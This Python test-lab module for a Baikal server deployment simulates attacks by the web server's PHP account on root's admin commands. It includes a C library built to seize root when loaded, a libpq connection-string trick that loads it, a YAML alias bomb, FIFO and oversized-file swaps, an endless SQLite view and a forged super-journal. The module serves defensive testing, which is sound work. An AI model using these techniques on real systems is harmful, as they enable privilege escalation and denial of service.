"""Attacks by PHP's account on a deployed machine or container, and what root's commands do about them."""

from __future__ import annotations

import contextlib
import json
import shlex
import shutil
import subprocess
import time
from dataclasses import dataclass
from datetime import datetime
from typing import TYPE_CHECKING, Final

from tests.lab.engine import apt_install, wait_until
from tests.lab.errors import LabError

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.lab.engine import Engine

LIMIT_S: Final = 60
"""Every command ends within this time."""
DATA: Final = "/var/lib/baikal"
YAML: Final = f"{DATA}/config/baikal.yaml"
DATABASE: Final = f"{DATA}/Specific/db/db.sqlite"
LIBRARY: Final = f"{DATA}/Specific/evil.so"
LOADED: Final = f"{DATA}/Specific/loaded"
"""The library writes here which account has loaded it."""
PWNED: Final = "/root/pwned"
"""The library writes this file if it can become root."""
VICTIM: Final = "/root/victim"
PORT: Final = 5499
SAVED: Final = "/var/tmp/saved"  # noqa: S108 - on the machine under test
STOP: Final = "/tmp/stop"  # noqa: S108 - on the machine under test

_SOURCE: Final = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static void write_line(const char *path, int uid, int result) {
    int file = open(path, O_CREAT | O_WRONLY | O_APPEND | O_NOFOLLOW, 0666);
    if (file >= 0) {
        fchmod(file, 0666);
        char program[256] = "";
        readlink("/proc/self/exe", program, sizeof program - 1);
        dprintf(file, "%s has loaded it: user id %d, setresuid(0, 0, 0) returned %d\n", program, uid, result);
        close(file);
    }
}
__attribute__((constructor)) static void become_root(void) {
    int uid = getuid(), result = setresuid(0, 0, 0);
    write_line(LOADED, uid, result);
    write_line(OLD, uid, result);
    if (result == 0) write_line(PWNED, uid, result);
}
"""
_SAVE: Final = f"""
set -eu
rm -rf {SAVED}; mkdir -m 700 {SAVED}
cd {DATA}; cp -a config Specific {SAVED}
"""
_RESTORE: Final = f"""
set -eu
cd {DATA}
touch {STOP}
for fifo in $(find config Specific mail /var/spool/nullmailer/queue/ -type p ! -name trigger); do
    ( exec 3<>"$fifo" )  # processes that wait in it go on
    rm "$fifo"
done
rm -rf config/* Specific/*
cp -a {SAVED}/config/. config; cp -a {SAVED}/Specific/. Specific
rm -f mail/kept/*.eml {PWNED} {VICTIM}
"""
_FILES_OF_ROOT: Final = r"""
find / /root /var/lib/baikal /var/backups -xdev \( -path /run -o -path /var/log -o -path /var/cache \
    -o -path /var/lib/systemd -o -path /var/lib/baikal/state -o -path /var/backups/baikal \
    -o -path /var/lib/baikal/backups -o -path /var/tmp/saved \) -prune -o -uid 0 \( \
    -type d -printf '%p\t%m %U %G\n' -o -printf '%p\t%i %m %U %G %s %T@ %C@ %l\n' \)
"""
"""Owner and mode of directories; of files also inode, size and times, one of which any change would change."""
_LISTEN: Final = f"""
import os, socket, sys, threading
server = socket.create_server(("127.0.0.1", {PORT}))
if os.fork():
    os._exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for descriptor in (0, 1, 2):
    os.dup2(null, descriptor)
answer, record = sys.argv[1].encode(), sys.argv[2]
server.settimeout(1)
while not os.path.exists("{STOP}"):
    try:
        client, _ = server.accept()
    except TimeoutError:
        continue
    client.settimeout(5)
    try:
        with open(record, "ab") as file:
            file.write(client.recv(4096))
            client.sendall(answer)
            file.write(client.recv(4096))
    except OSError:
        pass
    client.close()
"""
RECEIVED: Final = "/tmp/received"  # noqa: S108 - on the machine under test
_CHANGE_SECTION: Final = f"""
import json, sys, yaml
configuration = yaml.safe_load(open("{YAML}"))
configuration["database"].update(json.loads(sys.argv[1]))
open("{YAML}", "w").write(yaml.safe_dump(configuration))
"""

SUPER_JOURNAL: Final = f"""
import os, sqlite3, struct, sys
database, mode = sys.argv[1:]
connection = sqlite3.connect(database)
connection.execute("PRAGMA journal_mode = DELETE")
(size,) = connection.execute("PRAGMA page_size").fetchone()
connection.close()
magic, name, pages = bytes.fromhex("d9d505f920a163d7"), b"{VICTIM}", os.path.getsize(database) // size
journal = (magic + struct.pack(">5I", 0, 0, pages, 512, size)).ljust(512, bytes(1))
journal += struct.pack(">I", 2**30 // size + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
def appear():
    with open(database + ".x", "wb") as file:
        file.write(journal)
    os.rename(database + ".x", database + "-journal")
appear()
if mode == "once":
    sys.exit()
if os.fork():
    os._exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for descriptor in (0, 1, 2):
    os.dup2(null, descriptor)
while not os.path.exists("{STOP}"):
    if not os.path.exists(database + "-journal"):
        appear()
"""
"""Has a journal beside a database that names :data:`VICTIM` as its super-journal: ``once``, or again whenever it is gone."""
_BOMB: Final = "more:\n  a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"  a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9)
)
_REPLACED: Final = "import os\nos.path.lexists({path!r}) and os.unlink({path!r})\n"
KEPT: Final = f"{DATA}/mail/kept/1700000000.1.0.eml"
QUEUED: Final = "/var/spool/nullmailer/queue/1700000000.1"


def fifo(path: str) -> str:
    """Return the program that puts a FIFO in the place of a file."""
    return _REPLACED.format(path=path) + f"os.mkfifo({path!r})\n"


ATTACKS: Final = {
    "yaml with aliases that expand": f"""
import re
text = open("{YAML}").read()
text = re.sub("configured_version: .*", "configured_version: *a8", text)
open("{YAML}", "w").write({_BOMB!r} + text)
""",
    "yaml of 200 GiB": f'import os\nos.truncate("{YAML}", 200 << 30)\n',
    "a FIFO as yaml": fifo(YAML),
    "a FIFO as the database": fifo(DATABASE),
    "users without end": f"""
import sqlite3
connection = sqlite3.connect("{DATABASE}", isolation_level=None)
connection.execute("ALTER TABLE users RENAME TO u")
connection.execute("CREATE VIEW users AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
    "SELECT i AS id, 'x' || i AS username, 'x' || i AS digesta1 FROM n")
""",  # noqa: S608 - hostile it is meant to be
    "a FIFO as kept mail": fifo(KEPT),
    "a FIFO in the queue": fifo(QUEUED),
}
"""What PHP's account can write that would hold up or fill a program that reads it without care: a program for each."""


@dataclass(frozen=True)
class Ran:
    """A command that was run on a host, and how it ended."""

    words: str
    status: int
    output: str
    seconds: float

    def __str__(self) -> str:
        """Return all of it for a failed assertion."""
        return f"{self.words}: status {self.status} after {self.seconds:.1f} s\n{self.output}"


@dataclass(frozen=True)
class Host:
    """A machine or a container: a name that the engine knows, and its accounts."""

    engine: Engine
    name: str
    admin: str = "root"
    """The account that runs ``baikalctl``."""
    php: str = "baikal"

    def run(self, words: str, limit_s: float = LIMIT_S) -> Ran:
        """Run a command as the administrator; it is killed after ``limit_s``, which gives the status 137."""
        began = time.monotonic()
        script = f'timeout --signal=KILL {limit_s} {words} 2>&1; echo "status $?"'
        told = self.execute("sh", "-c", script, user=self.admin)
        output, _, status = told.rpartition("status ")
        return Ran(words, int(status), output, time.monotonic() - began)

    def execute(self, *command: str, user: str = "root", text: str | bytes = "", check: bool = True) -> str:
        """Run a command with ``text`` as its input, and return what it printed."""
        arguments = ("exec", "-i", "--user", user, self.name, *command)
        return self.engine.docker(*arguments, input=text, check=check, timeout=2 * LIMIT_S)

    def as_php(self, program: str, *arguments: str) -> str:
        """Run a Python program as PHP's account."""
        return self.execute("/usr/bin/python3", "-", *arguments, user=self.php, text=program)

    def exists(self, path: str) -> bool:
        """Tell whether there is such a file."""
        return self.execute("sh", "-c", f"ls -d {shlex.quote(path)} 2>/dev/null || true") != ""

    def files_of_root(self) -> dict[str, str]:
        """Return all files and directories that belong to root, by path, with what a change would change."""
        lines = self.execute("sh", "-c", _FILES_OF_ROOT).splitlines()
        return dict(sorted(line.split("\t", 1) for line in lines if "\t" in line))

    def save(self) -> None:
        """Copy the data, so that :meth:`attacked` can restore it."""
        self.execute("sh", "-c", _SAVE, user=self.admin)

    @contextlib.contextmanager
    def attacked(self, program: str = "pass") -> Iterator[None]:
        """Run a Python program as PHP's account; at the end of the block, restore the data."""
        self.execute("rm", "-f", STOP, RECEIVED)
        self.execute("sh", "-c", f"umask 077; echo victim > {VICTIM}")
        try:
            self.as_php(program)
            yield
        finally:
            self.execute("sh", "-c", _RESTORE)

    def listen(self, answer: str) -> None:
        """Have PHP's account listen at :data:`PORT`, answer with one byte, and record what is sent."""
        self.as_php(_LISTEN, answer, RECEIVED)

    def offer_library(self, library: Path) -> None:
        """Have PHP's account name a library of its own in baikal.yaml, as the key for a database server's TLS."""
        self.execute("sh", "-c", f"cat > {LIBRARY}", user=self.php, text=library.read_bytes())
        self.execute("sh", "-c", self_signed(f"{DATA}/Specific"), user=self.php)
        self.listen("S")
        self.as_php(_CHANGE_SECTION, json.dumps(section(f"{DATA}/Specific")))

    def is_machine(self) -> bool:
        """Tell whether this is a machine with systemd."""
        return self.exists("/run/systemd/system")

    def probed_since(self, moment: float) -> Ran:
        """Return the first of the engine's own health probes that began after ``moment`` (seconds since the epoch)."""
        found: list[Ran] = []

        def probed() -> bool:
            log = json.loads(self.engine.docker("inspect", "-f", "{{json .State.Health.Log}}", self.name))
            for each in log:
                began, ended = (datetime.fromisoformat(each[key][:19] + "+00:00") for key in ("Start", "End"))
                if began.timestamp() > moment:
                    seconds = (ended - began).total_seconds()
                    found.append(Ran("the engine's health probe", each["ExitCode"], each["Output"], seconds))
            return bool(found)

        if not wait_until(probed, LIMIT_S):
            message = "the engine has not probed the container"
            raise LabError(message)
        return found[0]


def section(folder: str) -> dict[str, str]:
    """Return what names, in the section ``database`` of a baikal.yaml, the library in ``folder`` as a program for libpq."""
    options = f"sslmode=require;sslcert={folder}/c.pem;sslkey={folder}/evil.so:x"
    names = dict.fromkeys(("pgsql_dbname", "pgsql_username", "pgsql_password"), "x")
    return {"backend": "pgsql", "pgsql_host": f"127.0.0.1;port={PORT};{options}", **names}


def self_signed(folder: str) -> str:
    """Return the command that makes the certificate that libpq wants besides a key."""
    return (
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -days 2"
        f" -keyout /dev/null -out {folder}/c.pem 2>/dev/null"
    )


def library(folder: Path) -> Path:
    """Compile the library: its constructor writes :data:`LOADED`, and as root also :data:`PWNED`."""
    if not shutil.which("cc"):
        apt_install(("gcc", "libc6-dev"))
    source, target = folder / "evil.c", folder / "evil.so"
    source.write_text(_SOURCE, encoding="ascii")
    names = [
        f'-D{name}="{path}"' for name, path in (("LOADED", LOADED), ("PWNED", PWNED), ("OLD", "/old/Specific/loaded"))
    ]
    done = subprocess.run(
        ["cc", "-shared", "-fPIC", *names, "-o", target, source], capture_output=True, text=True, check=False
    )
    if done.returncode:
        message = f"the library can't be compiled:\n{done.stderr}"
        raise LabError(message)
    return target
